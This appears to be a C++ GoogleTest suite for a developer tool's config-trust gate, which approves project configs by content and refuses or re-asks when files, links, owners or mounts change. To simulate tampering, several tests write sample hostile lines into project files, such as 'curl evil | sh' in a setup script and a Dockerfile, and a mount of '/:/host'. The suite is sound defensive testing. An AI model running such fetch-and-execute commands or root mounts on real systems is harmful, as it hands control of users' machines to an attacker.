// Trust in configs with real files, owners and links: the look, the record, and the gate of the Service.
#include "ensure/service.hpp"
#include "ensure/trust_book.hpp"
#include "support/fake_jupyter_api.hpp"
#include "support/temp_folder.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <fcntl.h>
#include <fstream>
#include <future>
#include <sys/file.h>
#include <sys/stat.h>
#include <unistd.h>

namespace helper::ensure {
namespace {

namespace fs = std::filesystem;
using testing::Contains;
using testing::HasSubstr;
using testing::Not;

constexpr const char* k_hostile = R"({"targets": {"t1": {
  "server": "user@192.0.2.1", "container": {"build": {"context": "docker"}}, "post_create": ["bash setup.sh"]}}})";

// Counts what is read.
class CountingFiles final : public FileStore {
 public:
  Result<std::optional<std::string>> read(const fs::path& path) override {
    auto text = disk_.read(path);
    ++times[path];
    if (text && *text) bytes += (*text)->size();
    return text;
  }
  Result<void> write(const fs::path& path, std::string_view text, mode_t mode) override {
    return disk_.write(path, text, mode);
  }
  Result<void> remove(const fs::path& path) override { return disk_.remove(path); }

  std::map<fs::path, int> times;
  std::size_t bytes = 0;

 private:
  DiskFileStore disk_;
};

class Trust : public testing::Test {
 protected:
  Trust() {
    paths.home = folder.path() / "home";
    paths.data = paths.home / "data";
    paths.state = paths.home / "state";
    paths.runtime = paths.home / "run";
    paths.user_config_file = paths.home / ".config" / "helper" / "config.json";
    fs::create_directories(project() / "docker");
    fs::create_directories(paths.data);
    write("docker/Dockerfile", "FROM scratch\nCOPY start.sh /\n");
    write("docker/start.sh", "#!/bin/sh\n");
    write("setup.sh", "#!/bin/sh\nsh more.sh\n");
    write("more.sh", "echo 1\n");
    write("helper.json", k_hostile);
  }
  [[nodiscard]] fs::path project() const { return folder.path() / "project"; }
  [[nodiscard]] fs::path config() const { return project() / "helper.json"; }
  void write(const std::string& name, const std::string& text) const {
    fs::create_directories((project() / name).parent_path());
    std::ofstream(project() / name) << text;
  }
  TrustLook look() {
    auto look = look_at_config(files, config(), config::no_variable);
    EXPECT_TRUE(look) << (look ? "" : to_text(look.error()));
    return look.value_or(TrustLook{});
  }
  std::string digest() { return look().digest; }
  TrustReport state() {
    const auto standing = book().standing(config(), config::no_variable, true);
    EXPECT_TRUE(standing) << (standing ? "" : to_text(standing.error()));
    return standing ? report_of(*standing, config()) : TrustReport{};
  }
  TrustBook& book() {
    if (!book_) book_.emplace(paths, files, clock);
    return *book_;
  }
  void approve() { ASSERT_TRUE(book().approve(look(), "shown")); }

  test::TempFolder folder;
  Paths paths;
  DiskFileStore files;
  SystemClock clock;
  std::optional<TrustBook> book_;
};

TEST_F(Trust, CoversTheFilesThatAConfigMakesRunOrSend) {
  const auto texts = [&] {
    std::string all;
    for (const auto& power : look().powers) all += power.text + "\n";
    return all;
  }();
  for (const char* file : {"docker/Dockerfile", "docker/start.sh", "setup.sh", "more.sh"})
    EXPECT_THAT(texts, HasSubstr(std::string("runs or sends the file ") + file + "\n"));
  const std::string before = digest();
  for (const char* file : {"docker/Dockerfile", "docker/start.sh", "setup.sh", "more.sh"}) {
    std::ofstream(project() / file, std::ios::app) << "\n# other\n";
    EXPECT_NE(digest(), before) << file;
  }
}

TEST_F(Trust, AFileThatComesLaterIsNoticed) {
  const std::string before = digest();
  write("docker/.dockerignore", "!secret\n");
  EXPECT_NE(digest(), before);
}

TEST_F(Trust, ALinkThatLeadsOutOfTheProjectIsSaid) {
  fs::create_directories(folder.path() / "secret");
  fs::rename(project() / "docker", folder.path() / "was_docker");
  fs::create_directory_symlink(folder.path() / "was_docker", project() / "docker");
  const auto its = look();
  const auto& powers = its.powers;
  EXPECT_TRUE(std::ranges::any_of(powers, [](const auto& power) {
    return power.always && power.text.find("which leads to") != std::string::npos;
  }));
  fs::remove(project() / "docker");
  fs::create_directory_symlink(folder.path() / "secret", project() / "docker");
  EXPECT_NE(digest(), its.digest) << "the link points elsewhere now";
}

TEST_F(Trust, NamesOfTheEnvironmentCountAndItsValuesNeverDo) {
  write("helper.json", R"({"targets": {"t1": {"server": "gpu1", "devcontainer": "."}}})");
  write(".devcontainer/devcontainer.json",
        R"({"image": "i:1", "containerEnv": {"A": "${localEnv:TOKEN}", "B": "${localEnv:NOT:default1}"}})");
  const auto with = [&](const std::string& value) {
    const auto its = look_at_config(files, config(), [&](const std::string&) { return std::optional(value); });
    EXPECT_TRUE(its) << (its ? "" : to_text(its.error()));
    return its.value_or(TrustLook{});
  };
  const auto its = with("hunter2");
  EXPECT_EQ(its.digest, with("other").digest);
  EXPECT_FALSE(its.has_values);
  EXPECT_THAT(config::canonical_text(its.powers), Not(HasSubstr("hunter2")));
  EXPECT_THAT(config::canonical_text(its.powers), HasSubstr("reads TOKEN of your environment"));
  write(".devcontainer/devcontainer.json",
        R"({"image": "i:1", "containerEnv": {"A": "${localEnv:TOKEN}", "B": "${localEnv:NOT:default2}"}})");
  EXPECT_NE(its.digest, with("hunter2").digest) << "a default is content too";
}

TEST_F(Trust, AFolderThatAVariableDecidesIsLookedAtWhereItIs) {
  fs::create_directories(folder.path() / "secret");
  std::ofstream(folder.path() / "secret" / "Dockerfile") << "FROM x\n";
  write("helper.json", R"({"targets": {"t1": {"server": "gpu1", "devcontainer": "."}}})");
  write(".devcontainer/devcontainer.json",
        R"({"build": {"dockerfile": "${localEnv:PLACE}/Dockerfile", "context": "${localEnv:PLACE}"}})");
  const auto its = look_at_config(
      files, config(), [&](const std::string&) { return std::optional((folder.path() / "secret").string()); });
  ASSERT_TRUE(its) << to_text(its.error());
  EXPECT_TRUE(std::ranges::any_of(its->powers, [](const auto& power) {
    return power.always && power.text.find("secret (OUTSIDE the project)") != std::string::npos;
  })) << config::canonical_text(its->powers);
  EXPECT_TRUE(its->has_values);
}

TEST_F(Trust, AValueThatDecidesTheServerCountsAndThatOfATokenBesideItNeverDoes) {
  write("helper.json", R"({"targets": {"t1": {"server": "${localEnv:SERVER}", "container": {"image": "i:1",
      "env": {"A": "${localEnv:TOKEN}", "B": "${localEnv:TOKEN:default1}"}}}}})");
  const auto with = [&](const std::string& server, const std::string& token) {
    const auto its = look_at_config(
        files, config(), [&](const std::string& name) { return std::optional(name == "SERVER" ? server : token); });
    EXPECT_TRUE(its) << (its ? "" : to_text(its.error()));
    return its.value_or(TrustLook{});
  };
  const auto its = with("gpu1", "hunter2");
  EXPECT_TRUE(its.has_values);
  EXPECT_EQ(its.digest, with("gpu1", "other").digest);
  EXPECT_NE(its.digest, with("gpu2", "hunter2").digest);
  EXPECT_THAT(config::canonical_text(its.powers), HasSubstr("connects to server gpu1"));
  EXPECT_THAT(config::canonical_text(its.powers), Not(HasSubstr("hunter2")));
  EXPECT_THAT(config::canonical_text(its.powers), HasSubstr("default1")) << "a default is content too";
}

TEST_F(Trust, WhatAVariableLetsAFlagMountOfThisMachineIsShown) {
  write("helper.json", R"({"targets": {"t1": {"server": "local", "container": {"image": "i:1",
      "extra_args": ["-v", "${localEnv:PLACE}:/x"]}}}})");
  const auto its =
      look_at_config(files, config(), [](const std::string&) { return std::optional<std::string>("/etc"); });
  ASSERT_TRUE(its) << to_text(its.error());
  EXPECT_THAT(config::canonical_text(its->powers), HasSubstr("these arguments mount /etc"));
}

TEST_F(Trust, AVariableThatIsNotSetIsAnErrorAndNoApproval) {
  write("helper.json", R"({"targets": {"t1": {"server": "${localEnv:SERVER}", "container": {"image": "i:1"}}}})");
  const auto its = look_at_config(files, config(), config::no_variable);
  ASSERT_FALSE(its);
  EXPECT_THAT(its.error().cause, HasSubstr("needs the variable SERVER"));
}

TEST_F(Trust, TheLocalFileBesideTheConfigCountsAsPartOfIt) {
  const auto before = look();
  write("helper.local.json", R"({"targets": {"t1": {"server": "user@192.0.2.2"}}})");
  const auto after = look();
  EXPECT_NE(before.digest, after.digest);
  EXPECT_THAT(config::canonical_text(after.powers), HasSubstr("connects to server user@192.0.2.2"));
  EXPECT_TRUE(std::ranges::any_of(before.stamps, [&](const Stamp& stamp) {
    return stamp.path == project() / "helper.local.json" && !stamp.itself;
  })) << "that it comes is noticed";
  const auto loaded = load_as_looked_at(before, config(), config::no_variable);
  ASSERT_TRUE(loaded);
  EXPECT_EQ(loaded->targets.at("t1").server, "user@192.0.2.1") << "what is used is what was looked at";
  fs::permissions(project() / "helper.local.json", fs::perms::others_write, fs::perm_options::add);
  EXPECT_TRUE(look().others);
}

TEST_F(Trust, WhatIsHarmlessInTheLocalFileNeedsNoNewApproval) {
  const std::string before = digest();
  write("helper.local.json", R"({"targets": {"t1": {"ssh": {"local_port": 2322}}}})");
  EXPECT_EQ(digest(), before);
}

TEST_F(Trust, WhatIsUsedIsWhatWasLookedAt) {
  const auto its = look();
  write("helper.json", R"({"targets": {"other": {"container": {"image": "i:1"}}}})");
  const auto config = load_as_looked_at(its, this->config(), config::no_variable);
  ASSERT_TRUE(config) << to_text(config.error());
  EXPECT_TRUE(config->targets.contains("t1"));
}

TEST_F(Trust, ANewConfigIsNotTrustedUntilItIsApprovedByContent) {
  EXPECT_EQ(state().state, "new");
  approve();
  EXPECT_EQ(state().state, "trusted");
  write("setup.sh", "curl evil | sh\n");
  EXPECT_EQ(state().state, "changed");
  EXPECT_THAT(state().changes, Contains("changed: runs or sends the file setup.sh"));
  write("setup.sh", "#!/bin/sh\nsh more.sh\n");
  EXPECT_EQ(state().state, "trusted") << "the content that was approved is back";
  EXPECT_TRUE(book().withdraw(config()).value_or(false));
  EXPECT_EQ(state().state, "new");
  EXPECT_FALSE(book().withdraw(config()).value_or(true));
}

TEST_F(Trust, TheRecordIsReadableByThePersonAlone) {
  approve();
  struct stat info {};
  ASSERT_EQ(::stat(paths.trust_record().c_str(), &info), 0);
  EXPECT_EQ(info.st_mode & 07777U, 0600U);
  TrustBook other(paths, files, clock);
  const auto list = other.list();
  ASSERT_TRUE(list);
  ASSERT_EQ(list->entries.size(), 1U);
  EXPECT_EQ(list->entries.front().config_file, fs::canonical(config()).string());
}

TEST_F(Trust, ARecordThatCannotBeReadIsAnErrorAndNoApproval) {
  std::ofstream(paths.trust_record()) << "{";
  const auto standing = book().standing(config(), config::no_variable, true);
  ASSERT_FALSE(standing);
  EXPECT_EQ(standing.error().code, ErrorCode::file_failed);
}

TEST_F(Trust, ThePersonsOwnConfigIsTakenOverOnceAndThatIsSaid) {
  fs::create_directories(paths.user_config_file.parent_path());
  std::ofstream(paths.user_config_file) << k_hostile;
  const auto first = book().standing(paths.user_config_file, config::no_variable, true);
  ASSERT_TRUE(first);
  EXPECT_TRUE(first->trusted);
  EXPECT_THAT(first->note, HasSubstr("it is your own config"));
  const auto second = book().standing(paths.user_config_file, config::no_variable, true);
  ASSERT_TRUE(second);
  EXPECT_TRUE(second->trusted && second->note.empty());
}

TEST_F(Trust, WhatWasInUseWhenTheRecordWasBegunIsTakenOverOnce) {
  fs::create_directories(paths.host_keys("t1"));
  write("cloned/helper.json", k_hostile);
  EXPECT_TRUE(book().list());  // the first start with a record
  const auto standing = book().standing(config(), config::no_variable, true);
  ASSERT_TRUE(standing);
  EXPECT_TRUE(standing->trusted);
  EXPECT_THAT(standing->note, HasSubstr("it was in use before"));
  const auto other = book().standing(project() / "cloned" / "helper.json", config::no_variable, true);
  ASSERT_TRUE(other);
  EXPECT_FALSE(other->trusted) << "one config for each name";
  write("setup.sh", "curl evil | sh\n");
  EXPECT_EQ(state().state, "changed") << "once";
}

TEST_F(Trust, AConfigIsTakenOverOnlyWhenAllOfItsTargetsWereInUse) {
  const std::string both = R"({"targets": {"t1": {"container": {"image": "i:1"}},
                                           "t2": {"container": {"image": "i:1"}, "ssh": {"local_port": 2300}}}})";
  fs::create_directories(paths.host_keys("t1"));
  write("helper.json", both);
  ::usleep(20'000);
  EXPECT_TRUE(book().list());
  EXPECT_EQ(state().state, "new") << "a cloned config that has one name in common";
  fs::remove(paths.trust_record());
  fs::create_directories(paths.host_keys("t2"));
  EXPECT_EQ(state().state, "trusted");
}

TEST_F(Trust, TheRecordIsBegunUnderItsLock) {
  const int lock = ::open((paths.data / "trust.lock").c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);
  ASSERT_GE(lock, 0);
  ASSERT_EQ(::flock(lock, LOCK_EX), 0);
  auto listed = std::async(std::launch::async, [&] { return book().list(); });
  EXPECT_EQ(listed.wait_for(std::chrono::milliseconds(200)), std::future_status::timeout);
  EXPECT_FALSE(fs::exists(paths.trust_record()));
  // Another process has begun it meanwhile.
  EXPECT_TRUE(files.write(paths.trust_record(), to_text(TrustRecord{"then", 1, {"theirs"}, {}, {}}), 0600));
  ASSERT_EQ(::flock(lock, LOCK_UN), 0);
  EXPECT_TRUE(listed.get());
  const auto text = files.read(paths.trust_record());
  ASSERT_TRUE(text && *text);
  EXPECT_THAT(**text, HasSubstr("theirs")) << "what they have begun stays";
  ::close(lock);
}

TEST_F(Trust, ALookReadsEachFileOnceAndNoMoreThanItsBudget) {
  write("setup.sh", "sh one.bin two.bin link1 link2 small\n");
  write("small", "x");
  for (const char* large : {"one.bin", "two.bin"}) {
    write(large, "");
    fs::resize_file(project() / large, 40U << 20);
  }
  fs::create_symlink("small", project() / "link1");
  fs::create_symlink("small", project() / "link2");
  CountingFiles counting;
  const auto its = look_at_config(counting, config(), config::no_variable);
  ASSERT_TRUE(its) << to_text(its.error());
  EXPECT_LE(counting.bytes, 64U << 20);
  EXPECT_EQ(counting.times[fs::canonical(project() / "small")], 1);
  const auto detail_of = [&](const std::string& file) {
    for (const auto& power : its->powers) {
      if (power.text.starts_with("runs or sends the file " + file)) return power.detail;
    }
    return std::string("not covered");
  };
  EXPECT_THAT(detail_of("two.bin"), HasSubstr("unread 41943040 "));
  EXPECT_EQ(detail_of("link1"), detail_of("small"));
  fs::last_write_time(project() / "two.bin", fs::file_time_type::clock::now() + std::chrono::seconds(5));
  EXPECT_NE(digest(), its->digest) << "what is not read counts by its time";
}

TEST_F(Trust, FilesOfAConfigThatIsRefusedAreNotRead) {
  fs::permissions(project(), fs::perms::all | fs::perms::sticky_bit);
  CountingFiles counting;
  TrustBook its(paths, counting, clock);
  const auto refused = its.standing(config(), config::no_variable, true);
  ASSERT_TRUE(refused) << to_text(refused.error());
  EXPECT_EQ(report_of(*refused, config()).state, "refused");
  EXPECT_FALSE(counting.times.contains(fs::canonical(project() / "setup.sh")));
  const auto shown = its.standing(config(), config::no_variable, false);
  ASSERT_TRUE(shown) << to_text(shown.error());
  EXPECT_TRUE(counting.times.contains(fs::canonical(project() / "setup.sh"))) << "who is asked to approve it sees all";
  ASSERT_TRUE(its.approve(*shown->look, "shown"));
  EXPECT_TRUE(its.standing(config(), config::no_variable, true)->trusted);
}

TEST_F(Trust, AFolderThatIsSwappedAfterTheApprovalIsNoLongerApproved) {
  fs::create_directories(folder.path() / "secret");
  std::ofstream(folder.path() / "secret" / "Dockerfile") << "FROM scratch\nCOPY start.sh /\n";
  approve();
  const std::string let_in = digest();
  EXPECT_TRUE(book().still_approved(config(), config::no_variable, let_in));
  fs::rename(project() / "docker", project() / "was");
  fs::create_directory_symlink(folder.path() / "secret", project() / "docker");
  const auto swapped = book().still_approved(config(), config::no_variable, let_in);
  ASSERT_FALSE(swapped);
  EXPECT_EQ(swapped.error().code, ErrorCode::config_untrusted);
  EXPECT_THAT(swapped.error().cause, HasSubstr("it has changed since you approved it"));
  fs::remove(project() / "docker");
  fs::rename(project() / "was", project() / "docker");
  EXPECT_TRUE(book().still_approved(config(), config::no_variable, let_in));
  write("docker/Dockerfile", "FROM scratch\nRUN curl evil\n");
  EXPECT_FALSE(book().still_approved(config(), config::no_variable, let_in));
  approve();
  EXPECT_FALSE(book().still_approved(config(), config::no_variable, let_in)) << "what was let in is not this";
}

// What the names in it are relative to is another folder: a cloned repository may bring such a link.
TEST_F(Trust, ALinkToAnApprovedConfigInAnotherFolderIsAnotherConfig) {
  approve();
  const fs::path other = folder.path() / "other";
  fs::create_directories(other);
  fs::copy(project(), other, fs::copy_options::recursive);
  const auto state_of = [&](const fs::path& file) {
    const auto standing = book().standing(file, config::no_variable, true);
    EXPECT_TRUE(standing);
    return standing ? report_of(*standing, file).state : "";
  };
  fs::remove(other / "helper.json");
  fs::create_symlink(config(), other / "helper.json");
  EXPECT_EQ(state_of(other / "helper.json"), "new");
  fs::create_directories(paths.user_config_file.parent_path());
  std::ofstream(paths.user_config_file) << k_hostile;
  EXPECT_EQ(state_of(paths.user_config_file), "trusted") << "the person's own";
  fs::remove(other / "helper.json");
  fs::create_symlink(paths.user_config_file, other / "helper.json");
  EXPECT_EQ(state_of(other / "helper.json"), "new");
  fs::create_directory_symlink(project(), folder.path() / "link");
  EXPECT_EQ(state_of(folder.path() / "link" / "helper.json"), "trusted") << "a link to the same folder";
  EXPECT_TRUE(book().withdraw(folder.path() / "link" / "helper.json"));
  EXPECT_EQ(state_of(config()), "new");
}

TEST_F(Trust, ALinkOfAnotherUserToTheFolderIsRefused) {
  if (::geteuid() != 0) GTEST_SKIP() << "only root can give a link to another user";
  const fs::path link = folder.path() / "link";
  fs::create_directory_symlink(project(), link);
  ASSERT_EQ(::lchown(link.c_str(), 12345, 12345), 0);
  const auto look = look_at_config(files, link / "helper.json", config::no_variable);
  ASSERT_TRUE(look);
  EXPECT_THAT(look->others.value_or(""), HasSubstr("link belongs to user 12345"));
}

TEST_F(Trust, AFolderThatAFlagMountsIsLookedAtWhereItIs) {
  fs::create_directories(folder.path() / "secret");
  fs::create_directory_symlink(folder.path() / "secret", project() / "data");
  std::ofstream(folder.path() / "secret" / "run.sh") << "echo\n";
  write("helper.json", R"({"targets": {"t1": {"container": {"image": "i:1", "extra_args": ["-v", ")" +
                           (project() / "data").string() + R"(:/data"]}, "post_start": ["sh /data/run.sh"]}}})");
  const auto its = look();
  const std::string all = config::canonical_text(its.powers);
  EXPECT_THAT(all, HasSubstr("which leads to " + fs::canonical(folder.path() / "secret").string() + " (OUTSIDE"));
  EXPECT_THAT(all, HasSubstr("runs or sends the file data/run.sh")) << "a hook runs it where the flag mounts it";
}

TEST_F(Trust, APythonOfTheProjectCountsByWhatItHolds) {
  write("helper.json", R"({"targets": {"t1": {"server": "gpu1", "container": {"image": "i:1"},
                           "python": "/w/tools/py", "project": {"remote": "/w"}}}})");
  write("tools/py", "#!/bin/sh\n");
  const std::string before = digest();
  write("tools/py", "#!/bin/sh\ncurl evil\n");
  EXPECT_NE(digest(), before);
}

TEST_F(Trust, AConfigThatCameLaterIsNotTakenOverByATargetsName) {
  fs::create_directories(paths.host_keys("t1"));
  EXPECT_TRUE(book().list());
  ::usleep(20'000);
  write("helper.json", k_hostile);
  EXPECT_EQ(state().state, "new");
}

TEST_F(Trust, AConfigInAFolderOfEverybodyIsRefusedUntilThatIsApprovedToo) {
  fs::permissions(project(), fs::perms::all | fs::perms::sticky_bit);
  EXPECT_EQ(state().state, "refused");
  EXPECT_THAT(state().cause, HasSubstr("every user of this machine may write in"));
  approve();
  EXPECT_EQ(state().state, "trusted");
  write("setup.sh", "other\n");
  EXPECT_EQ(state().state, "refused");
}

TEST_F(Trust, AConfigOfAnotherUserIsRefusedAlsoBehindALink) {
  if (::geteuid() != 0) GTEST_SKIP() << "only root can give a file away";
  write("theirs.json", k_hostile);
  ASSERT_EQ(::chown((project() / "theirs.json").c_str(), 12345, 0), 0);
  fs::remove(config());
  fs::create_symlink("theirs.json", config());
  EXPECT_EQ(state().state, "refused");
  EXPECT_THAT(state().cause, HasSubstr("belongs to user 12345"));
}

TEST_F(Trust, APrivateGroupMayWrite) {
  ASSERT_EQ(::chmod(config().c_str(), 0664), 0);
  ASSERT_EQ(::chmod(project().c_str(), 0775), 0);
  if (::geteuid() != 0) GTEST_SKIP() << "which groups a person has is not known here";
  EXPECT_EQ(state().state, "new") << "root's group has no other member";
}

class Gate : public Trust {
 protected:
  Request request() {
    Request request;
    request.config_file = config().string();
    return request;
  }
  Request asking(const std::string& answer) {
    Request request = this->request();
    request.can_answer = true;
    request.tell = [this, answer](const Event& event) {
      if (event.kind != Event::Kind::question) return;
      asked.push_back(event.question);
      EXPECT_TRUE(service.answer(event.question_id, answer));
    };
    return request;
  }
  std::vector<Question> asked;
  test::FakeJupyterApi jupyter;
  RealConnections connections{{}};
  DiskFileStore disk;
  SystemClock clock;
  OpenSshClient ssh;
  Service service{{paths, connections, disk, clock, jupyter, ssh}};
};

TEST_F(Gate, EveryMethodButTargetsRefusesAConfigThatNobodyApproved) {
  const EventSink quiet = [](const Event&) {};
  const Request its = request();
  std::vector<ErrorCode> codes;
  const auto note = [&](const auto& result) { codes.push_back(result ? ErrorCode::internal : result.error().code); };
  for (const auto power : {plan::Power::running, plan::Power::stopped, plan::Power::absent, plan::Power::ejected}) {
    note(service.converge(its, power, quiet, {}));
    note(service.plan(its, power, {}));
  }
  note(service.restart(its, quiet, {}));
  note(service.status(its, {}));
  note(service.watch(its, 0, {}));
  note(service.snapshot(its, "", quiet, {}));
  note(service.list(its, {}));
  note(service.logs(its, 1, {}));
  note(service.follow_logs(its, 1, quiet, {}));
  note(service.settings(its, {}));
  note(service.known(its));
  note(service.apply_settings(its, {}, quiet, {}));
  note(service.undo_settings(its, {}, quiet, {}));
  note(service.pythons(its, {}));
  note(service.gpu(its, false, quiet, {}));
  EXPECT_THAT(codes, testing::Each(ErrorCode::config_untrusted));
  EXPECT_TRUE(service.targets(its)) << "it only reads";
  const auto error = service.status(its, {}).error();
  EXPECT_THAT(error.fix, HasSubstr("helper trust " + config().string()));
  EXPECT_EQ(error_kind(error.code).exit_status, 14);
}

TEST_F(Gate, WhoeverCanAnswerIsShownWhatItDoesAndANoIsANo) {
  const auto report = service.plan(asking("no"), plan::Power::running, {});
  ASSERT_FALSE(report);
  EXPECT_EQ(report.error().code, ErrorCode::cancelled);
  ASSERT_EQ(asked.size(), 1U);
  EXPECT_EQ(asked.front().kind, Question::Kind::confirm);
  EXPECT_THAT(asked.front().details, Contains("  t1: connects to server user@192.0.2.1"));
  EXPECT_THAT(asked.front().details, Contains("  t1: runs once in the container: bash setup.sh"));
  EXPECT_EQ(service.trusted(request())->state, "new");
}

TEST_F(Gate, AYesIsRememberedByContent) {
  write("helper.json", R"({"targets": {"t1": {"container": {"image": "i:1"}}}})");
  EXPECT_TRUE(service.watch(asking("yes"), 0, {}));
  EXPECT_EQ(asked.size(), 1U);
  EXPECT_TRUE(service.watch(request(), 0, {})) << "it is asked once";
  write("helper.json", R"({"targets": {"t1": {"container": {"image": "i:1"}, "python": "conda:x"}}})");
  EXPECT_TRUE(service.watch(request(), 0, {})) << "a harmless change";
  write("helper.json", R"({"targets": {"t1": {"container": {"image": "i:1", "mounts": ["/:/host"]}}}})");
  EXPECT_EQ(service.watch(request(), 0, {}).error().code, ErrorCode::config_untrusted);
  EXPECT_FALSE(service.watch(asking("no"), 0, {}));
  EXPECT_THAT(asked.back().details, Contains(HasSubstr("new: t1: mounts /:/host")));
}

TEST_F(Gate, WhoSendsNoVariablesGetsThoseOfTheLastCommand) {
  write("helper.json",
        R"({"targets": {"t1": {"server": "${localEnv:HELPER_TEST_SERVER}", "container": {"image": "i:1"}}}})");
  EXPECT_EQ(service.watch(request(), 0, {}).error().code, ErrorCode::config_invalid);
  Request command = asking("yes");
  command.environment = std::vector<std::string>{"HELPER_TEST_SERVER=user@192.0.2.9"};
  EXPECT_TRUE(service.watch(command, 0, {}));
  EXPECT_TRUE(service.watch(request(), 0, {})) << "as the plugin asks";
  EXPECT_THAT(asked.front().details, Contains("  t1: connects to server user@192.0.2.9"));
}

TEST_F(Gate, AConfigThatIsSwappedBetweenTheQuestionAndTheYesIsAskedAboutAgain) {
  write("helper.json", R"({"targets": {"t1": {"container": {"image": "i:1"}}}})");
  Request swapping = request();
  swapping.can_answer = true;
  swapping.tell = [&](const Event& event) {
    if (event.kind != Event::Kind::question) return;
    asked.push_back(event.question);
    write("helper.json", R"({"targets": {"t1": {"container": {"image": "i:1", "mounts": ["/:/host"]}}}})");
    EXPECT_TRUE(service.answer(event.question_id, asked.size() == 1 ? "yes" : "no"));
  };
  EXPECT_EQ(service.watch(swapping, 0, {}).error().code, ErrorCode::cancelled);
  ASSERT_EQ(asked.size(), 2U);
  EXPECT_THAT(asked.back().details, Contains(HasSubstr("new: t1: mounts /:/host")));
}

TEST_F(Gate, ATakenOverConfigIsSaidToTheNextWhoCanBeTold) {
  fs::create_directories(paths.user_config_file.parent_path());
  std::ofstream(paths.user_config_file) << R"({"targets": {"t1": {"container": {"image": "i:1"}}}})";
  fs::permissions(paths.home / ".config", fs::perms::owner_all);
  Request its;
  its.config_file = paths.user_config_file.string();
  EXPECT_TRUE(service.watch(its, 0, {})) << "without a stream of events";
  std::vector<std::string> told;
  its.tell = [&](const Event& event) { told.push_back(event.text); };
  EXPECT_TRUE(service.watch(its, 0, {}));
  EXPECT_TRUE(service.watch(its, 0, {}));
  EXPECT_THAT(told, testing::ElementsAre(HasSubstr("is trusted as it is")));
}

TEST_F(Gate, AnApprovalCarriesWhatWasShown) {
  EXPECT_EQ(service.trust(request(), "0123").error().code, ErrorCode::config_untrusted);
  const auto shown = service.trusted(request());
  ASSERT_TRUE(shown);
  write("setup.sh", "curl evil | sh\n");
  EXPECT_FALSE(service.trust(request(), shown->digest)) << "it changed in between";
  const auto again = service.trusted(request());
  ASSERT_TRUE(again);
  EXPECT_EQ(service.trust(request(), again->digest)->state, "trusted");
  EXPECT_TRUE(service.untrust(request()).value_or(false));
  EXPECT_EQ(service.trusted(request())->state, "new");
}

// The project's goal for what trust adds to an ensure with nothing to do: 1 ms, the median of 1,000.
TEST_F(Trust, CostsAWarmRequestLessThanAMillisecond) {
  approve();
  ::usleep(200'000);  // files that changed a moment ago are looked at again
  std::vector<std::chrono::nanoseconds> times;
  for (int i = 0; i < 1000; ++i) {
    const auto start = std::chrono::steady_clock::now();
    const auto standing = book().standing(config(), config::no_variable, true);
    times.push_back(std::chrono::steady_clock::now() - start);
    ASSERT_TRUE(standing && standing->trusted);
  }
  std::ranges::sort(times);
  RecordProperty("median_us", static_cast<int>(times[500].count() / 1000));
  std::printf("median of 1,000: %lld us\n", static_cast<long long>(times[500].count() / 1000));
  EXPECT_LT(times[500], std::chrono::milliseconds(1));
}

}  // namespace
}  // namespace helper::ensure
